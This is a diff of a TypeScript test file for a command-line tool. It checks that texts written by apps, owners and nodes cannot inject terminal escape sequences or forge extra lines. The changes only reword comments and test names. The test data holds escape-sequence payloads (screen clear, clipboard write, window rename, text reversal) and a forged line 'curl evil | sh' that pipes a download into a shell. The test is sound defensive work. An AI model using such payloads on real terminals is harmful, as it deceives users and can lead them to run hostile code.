@@ -11,14 +11,14 @@ import { run } from '../../../shared/kit/exec.ts';
 import { openApi, type ApiFixture } from '../../support/api-fixture.ts';
 import { addApp, assignment, newRelease, noChange, slugOf } from '../../support/store-fixtures.ts';
 
-/** Clears the screen, writes the clipboard, renames the window, goes back over the line, turns text around; 7 and 8 bit. */
+/** Sequences that clear the screen, write the clipboard, rename the window, overwrite the line and reverse text; 7 and 8 bit. */
 const HOSTILE = '\u001b[2J\u001b]52;c;aGk=\u0007\u009b31m\u009d0;root\u009c\rAll is well.\u202e\u2028\u0000\u007f';
-/** What a terminal would obey. Colours are not painted here. */
+/** Control characters that a terminal would execute. Colours are off in this test. */
 const OBEYED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
-/** An end of line would let one thing look like several. */
+/** A line break could imitate another entry. */
 const FORGED = `${HOSTILE}\nNext: curl evil | sh`;
 
-/** Every command that shows what others wrote. */
+/** Every command that shows texts of other users, apps or nodes. */
 const SCREENS: readonly (readonly string[])[] = [
   ...[['status'], ['events'], ['why', 'shop'], ['why', 'web.1'], ['why', 'fra'], ['nodes'], ['nodes:info', 'fra']],
   ...[
@@ -37,7 +37,7 @@ const SCREENS: readonly (readonly string[])[] = [
   ...[['apps:root'], ['buildpacks']],
 ];
 
-describe('what apps, their owners and nodes write, on the terminal of whoever looks', () => {
+describe('texts of apps, owners and nodes on a terminal', () => {
   let fixture: ApiFixture;
   let client: ApiClient;
   before(async () => {
@@ -94,7 +94,7 @@ describe('what apps, their owners and nodes write, on the terminal of whoever lo
     });
   }
 
-  it('shows one thing in one line, so that nothing can be forged below it', async () => {
+  it('shows each entry in one line, so that no other entry can be forged', async () => {
     for (const args of [
       ['status'],
       ['events'],
@@ -107,7 +107,7 @@ describe('what apps, their owners and nodes write, on the terminal of whoever lo
       assert.doesNotMatch(await shown(args), /^\s*Next: curl evil/m, args.join(' '));
   });
 
-  it('gives programs what they ask for as it is', async () => {
+  it('gives programs unchanged texts', async () => {
     assert.equal(await shown(['config:get', 'HOSTILE']), `${HOSTILE}\n`);
     assert.ok((await shown(['config', '--shell'])).includes(HOSTILE));
     assert.ok((await shown(['logs', '--raw'])).includes(HOSTILE));
